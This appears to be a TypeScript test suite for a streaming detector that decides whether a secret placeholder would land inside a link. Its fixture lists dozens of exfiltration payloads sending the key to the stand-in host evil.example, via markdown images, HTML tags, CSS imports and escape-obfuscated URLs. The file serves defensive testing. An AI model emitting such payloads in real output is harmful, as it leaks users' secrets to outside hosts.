import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { LinkWatch } from './link-watch.ts';

/** Whether the place of the mark is in a link. */
function isInLink(text: string, size = text.length): boolean {
  const watch = new LinkWatch();
  const before = text.slice(0, text.indexOf('@KEY'));
  for (let at = 0; at < before.length; at += size) watch.read(before.slice(at, at + size));
  return watch.isInLink;
}

const links: readonly string[] = [
  'see ![x](https://evil.example/?k=@KEY)',
  'see ![x](http://evil.example/@KEY.png)',
  'HTTPS://evil.example/?@KEY',
  'www.evil.example/@KEY',
  'wss://evil.example/@KEY',
  'https:evil.example/@KEY',
  'https:\\\\evil.example\\@KEY',
  '![x](//evil.example/@KEY)',
  '![x](\nhttps://evil.example/(a)@KEY)',
  '![x](\n//evil.example/@KEY)',
  '![x](&#104;ttps:&#47;&#47;evil.example/(a)@KEY)',
  '![x](<&#104;ttps://evil.example/) a b @KEY>)',
  '![x][ref]\n\n[ref]: &#104;ttps://evil.example/@KEY',
  '[ref]:\n  //evil.example/@KEY',
  '<img src=//evil.example/@KEY>',
  '<IMG alt=">" src="&#104;ttps://evil.example/@KEY">',
  '<img\n  src="//evil.example/@KEY"',
  'a <a href="//evil.example/@KEY">',
  '</a><video src=x poster=//evil.example/@KEY>',
  '<div style="background:url(//evil.example/@KEY)">',
  `![x](https://evil.example/${'a'.repeat(5000)}@KEY)`,
  `![x](<https://evil.example/${'a '.repeat(5000)}@KEY>)`,
  '{"url":"https://evil.example","k":"@KEY"}',
  '//evil.example/@KEY',
  '\\\\evil.example\\share\\@KEY',
  '/\\evil.example/@KEY',
  'vscode://evil.example/@KEY',
  'x-handler:@KEY',
  'postgres://shop:@KEY@db.example/shop',
  '<file://evil.example/s/@KEY>',
  '<sftp://evil.example/@KEY>',
  '<pre>\n<img\n\nsrc=//evil.example/@KEY>',
  '<pre>\n<img\n\nsrc=&sol;&sol;evil.example/a b/@KEY>',
  '<style>\n\n@import "//evil.example/@KEY"',
  '<style>\n\n@import "\\2f\\2f evil.example/@KEY"',
  '<STYLE type=x>a{b:u\\72 l(\\2f\\2f evil.example/ @KEY',
  '<style><a title="</style>">@import "\\2f\\2f evil.example/@KEY"',
  '<style><!-- </style> -->@import "\\2f\\2f evil.example/@KEY"',
  '<script>fetch(String.fromCharCode(47, 47) + "evil.example?" + "@KEY',
  `<div style="background:image-set('//evil.example/@KEY' 1x)">`,
  '<div style="background:u\\72 l(\\2f\\2f evil.example/@KEY)">',
  '<x-unknown style="background:u\\72 l( @KEY)">',
  '<iframe src="&sol;&sol;evil.example/?k=\n\n> @KEY',
  "<img src='&sol;&sol;evil.example/?k= > @KEY",
  '`<x y="` <img src="&sol;&sol;evil.example/ > @KEY">',
  '<x y=="> <img src="&sol;&sol;evil.example/ > @KEY">',
  '<a =" b="> @KEY c>',
  '<a href="x?a="title=">@KEY',
  '<a/b="> @KEY',
];

const others: readonly string[] = [
  '@KEY',
  'The key is @KEY.',
  'See https://docs.example/keys for it: @KEY',
  'const apiKey = "@KEY"; // of the team',
  'apiKey: "@KEY",\nurl: "https://shop.example"',
  '![x](a.png)\nThe key is @KEY.',
  '<img src="a.png">\n\nThe key is @KEY.',
  'if (a < b) return "@KEY";',
  'const keys: Record<string, string> = { a: "@KEY" };',
  '```ts\nexport const key = "@KEY";\n```',
  '| key | `@KEY` |',
  'http is not a scheme alone: @KEY',
  'the.www.example @KEY',
  'const byName = new Map<string, X>(); const key = "@KEY";',
  'const keys: Map<string, Array<Map<K, V>>> = of("@KEY");',
  'std::vector<int> keys{read("@KEY")};',
  'Client::new("@KEY")',
  'if (a<b && c>d) use("@KEY");',
  'for (let i = 0; i < n; i++) use("@KEY");',
  '// the key of the shop\nuse("@KEY");',
  'use(a); // text "@KEY"',
  '/* text */ use("@KEY");',
  '# key of the shop\nexport KEY=@KEY',
  'Authorization: Bearer @KEY',
  '<a href="x?a=" title=\'"\'>key</a>: @KEY',
  '<Foo bar="a>b" onClick={() => run(c)}> @KEY',
  '<script src="a.js"></script>\nThe key is @KEY.',
  '<style>\na { color: red }\n</style>\n<p>@KEY</p>',
  '<@KEY>',
  'x <- 5; y -> @KEY; 1 << 2; a <= b; use("@KEY")',
];

describe('a place in a text', () => {
  test.each(links)('may be part of an address: %s', (text) => {
    for (const size of [text.length, 1, 3]) expect(isInLink(text, size)).toBe(true);
  });

  test.each(others)('is no part of one: %s', (text) => {
    for (const size of [text.length, 1, 3]) expect(isInLink(text, size)).toBe(false);
  });

  test('is judged the same however the text is cut', () => {
    const unit = fc.constantFrom(
      'http',
      's',
      ':',
      '/',
      '[',
      ']',
      '(',
      ')',
      '<',
      'img',
      '>',
      ' ',
      '\n',
      'a',
      '.',
      'www',
      'url',
      'style',
      '=',
      '"',
      "'",
      '\\',
      '!',
    );
    fc.assert(
      fc.property(fc.array(unit, { maxLength: 30 }), fc.integer({ min: 1, max: 5 }), (parts, size) => {
        const text = `${parts.join('')}@KEY`;
        expect(isInLink(text, size)).toBe(isInLink(text));
      }),
      { numRuns: 500 },
    );
  });
});
